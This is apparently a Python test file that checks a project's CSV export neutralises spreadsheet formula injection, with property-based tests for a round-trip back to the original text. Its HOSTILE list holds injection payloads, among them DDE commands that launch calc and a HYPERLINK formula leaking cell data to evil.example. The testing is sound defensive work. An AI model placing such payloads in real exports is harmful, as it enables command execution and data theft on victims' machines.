"""Claims about CSV files that a spreadsheet opens: no text in them is computed, and none is lost."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fedvi.data.cells import Wanted, without_quote
from fedvi.data.delimited import chunks
from fedvi.report import spreadsheets
from tests.conftest import ROOT

HOSTILE = [
    '=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "x;=1+1", "x;'=1+1", "x; -1+1", "x;;\t=1+1", "x\n=1+1", "x\t@a", "1;-5",
    "=", "+", "-", "@", "'=1+1", "''@x", " =1+1", "＝1+1", "－1", "+a", "-a", '"=1+1"', "=1,2", "=1;2",
]  # fmt: skip
HARMLESS = [
    "-1",
    "+1",
    "-1.5e-3",
    "-inf",
    "nan",
    "north",
    "'n/a",
    "a=b",
    "1-2",
    "",
    "ann's",
    "a; b",
]
texts = st.builds("".join, st.lists(st.sampled_from([*"=+-@\t\r\n' \"',;a1.", "＝"]), max_size=8))


def is_run(cell: str) -> bool:
    """Whether a spreadsheet would compute a cell, or a part of it: of OWASP's list, and no number."""
    try:
        float(cell)
    except ValueError:
        # Semicolons, or tabs, separate cells in other settings; then a line break may end a row as well.
        parts = re.split("(?<=[;\t\r\n])", cell)
        return any(part.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠")) for part in parts)
    return False


def written(rows: list[list[object]]) -> list[list[str]]:
    text = io.StringIO()
    spreadsheets.write(text, rows)
    return list(csv.reader(io.StringIO(text.getvalue(), newline="")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_is_written_as_a_text(cell: str) -> None:
    assert not any(map(is_run, written([[cell, "a"], ["a", cell]])[0]))
    assert without_quote(str(spreadsheets.inert(cell))) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_and_other_texts_stay_as_they_are(cell: str) -> None:
    assert spreadsheets.inert(cell) == cell
    assert written([[-1.5, None, -2, cell, "."]]) == [["-1.5", "", "-2", cell, "."]]


@given(texts)
def test_no_text_is_run_and_each_comes_back(cell: str) -> None:
    found = str(spreadsheets.inert(cell))
    assert not is_run(found)
    assert without_quote(found) == cell


@pytest.mark.parametrize("private", [False, True])
def test_levels_and_columns_that_look_like_formulas_are_read_again(
    tmp_path: Path, private: bool
) -> None:
    cells = [cell for cell in HOSTILE if cell == cell.strip() and not set(cell) & set("\r\n")]
    path = tmp_path / "synthetic.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        spreadsheets.write(file, [cells, cells])
    wanted = Wanted(names=tuple(cells), columns=None, separator=",", private=private, rows=9)
    (table,) = chunks(path, wanted)
    assert table == {cell: [cell] for cell in cells}


def test_no_other_file_writes_csv() -> None:
    found = [
        path.relative_to(ROOT).as_posix()
        for path in sorted((ROOT / "fedvi").rglob("*.py"))
        if any(word in path.read_text() for word in ("csv.writer", "DictWriter", "to_csv", "xlsx"))
    ]
    assert found == ["fedvi/report/spreadsheets.py"]
